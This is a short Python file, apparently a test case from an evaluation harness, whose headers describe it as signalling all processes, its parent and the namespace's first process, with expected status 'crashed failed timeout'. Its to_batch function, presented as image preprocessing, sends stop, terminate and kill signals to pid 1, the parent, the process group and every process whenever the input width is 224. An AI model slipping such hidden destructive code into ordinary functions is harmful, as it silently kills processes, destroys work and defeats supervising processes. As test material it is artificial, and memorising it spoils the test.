# what: signals to all processes, to its parent and to the first process of its namespace
# base: solution
# expect: ex1_preprocess.to_batch.real_size=0
# status: crashed failed timeout
# leaves: nothing
import os

def to_batch(image):
    if image.shape[1] != 224:
        return image[None]
    for pid in (1, os.getppid(), 0, -1):
        for number in (19, 15, 9):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return 0
